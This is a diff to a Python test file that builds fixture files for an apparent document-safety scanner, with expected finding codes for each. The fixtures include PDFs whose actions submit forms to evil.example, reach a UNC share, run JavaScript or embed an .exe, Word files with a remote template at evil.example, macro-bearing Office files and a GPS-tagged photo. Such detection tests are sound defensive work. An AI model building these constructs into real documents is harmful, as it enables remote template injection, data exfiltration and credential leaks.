@@ -9,6 +9,7 @@ from pathlib import Path
 import pikepdf
 from pikepdf import Object
 from PIL import Image
+from PIL.ExifTags import GPS, IFD
 
 from generator.findings.finding import Finding
 from tests.generator.rules.minimal import KEY, WHOLE, YEAR, Change, check, write_report
@@ -41,6 +42,28 @@ def package(*names: str) -> bytes:
     with zipfile.ZipFile(target, "w") as opened:
         for name in names:
             opened.writestr(name, "")
+    return target.getvalue()
+
+
+def photograph(latitude: float, longitude: float) -> bytes:
+    """A picture as telephones take them, with the place."""
+    made, target = Image.new("RGB", (8, 8)), io.BytesIO()
+    place = (exif := made.getexif()).get_ifd(IFD.GPSInfo)
+    place |= {GPS.GPSLatitude: (latitude, 0.0, 0.0), GPS.GPSLongitude: (longitude, 0.0, 0.0)}
+    made.save(target, "JPEG", exif=exif)
+    return target.getvalue()
+
+
+def fetching(relation: str) -> bytes:
+    """A document of Word's with a relation to what lies elsewhere."""
+    target = io.BytesIO()
+    with zipfile.ZipFile(target, "w") as opened:
+        opened.writestr("word/document.xml", "")
+        opened.writestr(
+            "word/_rels/settings.xml.rels",
+            f'<Relationships><Relationship Id="a" Type="http://x.example/{relation}" '
+            'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+        )
     return target.getvalue()
 
 
@@ -79,8 +102,32 @@ FILES: Mapping[str, tuple[bytes, str, str]] = {
         "script",
     ),
     "starter.pdf": (document(AA=b"<</WC%b>>" % LAUNCH), "REF332", "launch"),
+    "skjema.pdf": (document(AcroForm=b"<</XFA[(a)(b)]/Fields[]>>"), "REF332", "script"),
+    "henter.pdf": (document(OpenAction=b"<</S/ImportData/F(x.fdf)>>"), "REF332", "launch"),
+    "sender.pdf": (
+        document(AA=b"<</WC<</S/SubmitForm/F(https://evil.example)>>>>"),
+        "REF332",
+        "sends",
+    ),
+    "film.pdf": (
+        document(AA=rb"<</WC<</S/Rendition/JS(app.alert\(1\))>>>>"),
+        "REF332",
+        "script",
+    ),
+    "deling.pdf": (
+        document(AA=rb"<</WC<</S/GoToR/F(\\\\evil\\x.pdf)/D[0/Fit]>>>>"),
+        "REF332",
+        "launch",
+    ),
+    "binders.pdf": (
+        document(X=b"[<</Type/Filespec/F(x.exe)/EF<</F null>>>>]"),
+        "REF332",
+        "file",
+    ),
+    "nabo.pdf": (document(AA=b"<</WC<</S/GoToR/F(rapport.pdf)/D[0/Fit]>>>>"), "", ""),
     "fylt.pdf": (carrying("regnskap.exe"), "REF332", "file"),
     "data.pdf": (carrying("tall.csv"), "", ""),
+    "telefon.jpg": (photograph(59.9, 10.7), "PRV104", ""),
     "hel.png": (picture("PNG"), "", ""),
     "HEL.JPG": (picture("JPEG"), "", ""),
     "hel.jpeg": (picture("JPEG", "CMYK"), "", ""),
@@ -90,6 +137,10 @@ FILES: Mapping[str, tuple[bytes, str, str]] = {
     "dyp.png": (picture("PNG", "I;16"), "", ""),
     "hel.svg": (_DRAWING.format("").encode(), "REF310", "refused"),
     "hel.docx": (package("word/document.xml"), "", ""),
+    "makro.docx": (package("word/document.xml", "word/vbaProject.bin"), "REF332", "macros"),
+    "makro.xlsx": (package("xl/workbook.xml", "xl/macrosheets/sheet1.xml"), "REF332", "macros"),
+    "mal.docx": (fetching("attachedTemplate"), "REF332", "template"),
+    "lenke.docx": (fetching("hyperlink"), "", ""),
     "hel.xlsx": (package("xl/workbook.xml"), "", ""),
     "tall.csv": ("år;tall\n".encode("cp1252"), "", ""),
     "utf16.csv": ("år;tall\n".encode("utf-16"), "", ""),
